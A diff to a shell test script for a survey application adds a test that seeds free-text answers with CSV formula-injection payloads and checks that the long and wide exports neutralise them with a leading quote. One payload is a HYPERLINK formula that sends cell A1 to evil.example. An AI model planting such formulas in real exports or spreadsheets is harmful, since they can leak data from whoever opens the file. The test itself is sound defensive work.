@@ -420,6 +420,39 @@ fns=$(sql "SELECT string_agg(p.proname, ' ' ORDER BY p.proname) FROM pg_proc p W
 check "uppfolj_contact may execute contact_rates and nothing else (got: $fns)" [ "$fns" = contact_rates ]
 
 # --- exports ----------------------------------------------------------------
+# Free-text answers that a spreadsheet would run as formulas (OWASP's CSV
+# injection triggers = + - @ TAB CR, and the HYPERLINK that sends a cell
+# away), one in each of seven submitted responses' text items.
+sql "WITH pay(k, v) AS (VALUES (1, '=1+1'), (2, '+1+1'), (3, '-1+1'), (4, '@SUM(1+1)'),
+		(5, E'\t=1+1'), (6, E'\r=1+1'),
+		(7, '=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klicka\")')),
+	pairs AS (SELECT r.response_id, r.instrument_id, r.version, ii.item_id,
+		row_number() OVER (ORDER BY r.response_id, ii.position) AS k
+		FROM response r JOIN wave w USING (wave_id)
+		JOIN instrument_item ii USING (instrument_id, version)
+		WHERE w.study_id = $DEMO AND r.status = 'submitted' AND ii.item_type = 'text')
+	INSERT INTO answer (response_id, instrument_id, version, item_id, value_text)
+	SELECT p.response_id, p.instrument_id, p.version, p.item_id, pay.v FROM pairs p JOIN pay USING (k)
+	ON CONFLICT (response_id, item_id) DO UPDATE SET value_text = excluded.value_text,
+		dont_know = false" >/dev/null
+# Prints what is wrong with CSV file $1 (nothing when right): each payload
+# must be there with a leading ' and never bare, and no cell may start with
+# a trigger unless it is a plain number the program wrote.
+formula_problems() {
+	python3 - "$1" <<'PY'
+import csv, re, sys
+cells = [c for row in csv.reader(open(sys.argv[1], newline="", encoding="utf-8"), strict=True) for c in row]
+pays = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
+	'=HYPERLINK("http://evil.example/?d="&A1,"Klicka")']
+have = set(cells)
+for p in pays:
+	if "'" + p not in have: print("missing with ': %r" % p)
+	if p in have: print("bare: %r" % p)
+for c in cells:
+	if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[-+]?[0-9]+([.,][0-9]+)?", c):
+		print("formula cell: %r" % c[:40])
+PY
+}
 adm export --format long -o "$ART/long.csv" >/dev/null 2>&1; st_l=$?
 adm export --format wide -o "$ART/wide.csv" >/dev/null 2>&1; st_w=$?
 adm export --format codebook -o "$ART/codebook.csv" >/dev/null 2>&1; st_c=$?
@@ -447,6 +480,13 @@ check "the long header is what R and pandas will name the columns" \
 check "CSV lines end in CRLF and the file has no BOM" [ $? = 0 ]
 dk=$(sql "SELECT count(*) FROM answer a JOIN response r USING (response_id) JOIN wave w USING (wave_id) WHERE w.study_id = $DEMO AND r.status = 'submitted' AND a.dont_know")
 check "dont_know is exported as a clear token ($dk)" [ "$(grep -c ',dont_know'$'\r''$' "$ART/long.csv")" = "$dk" ]
+for f in long wide; do
+	bad=$(formula_problems "$ART/$f.csv" 2>&1)
+	check "$f export: every formula answer (= + - @ tab CR, HYPERLINK) has a leading ' and none is bare" [ -z "$bad" ]
+	[ -z "$bad" ] || echo "$bad" | head -n 10 | note
+done
+grep -q "starts with = + - @ tab or CR is exported with ' in front" "$ART/codebook.csv"
+check "the codebook states the formula rule for free-text items" [ $? = 0 ]
 check "every export is in the audit log with its row count" \
 	[ "$(sql "SELECT detail->>'rows' FROM audit_log WHERE action = 'export.long' ORDER BY audit_id DESC LIMIT 1")" = "$want_l" ]
 
